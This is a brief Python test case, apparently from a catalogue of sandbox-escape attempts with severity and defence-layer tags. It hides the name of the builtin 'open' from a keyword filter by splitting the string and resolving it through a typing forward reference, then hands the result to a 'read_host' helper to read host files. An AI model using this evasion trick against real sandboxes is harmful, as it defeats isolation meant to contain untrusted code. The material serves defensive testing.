# technique: a generic type makes a forward reference of a text
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import typing

def trick():
    reference = typing.List["op" + "en"].__args__[0]
    return reference._evaluate({}, {}, frozenset())

read_host(trick)
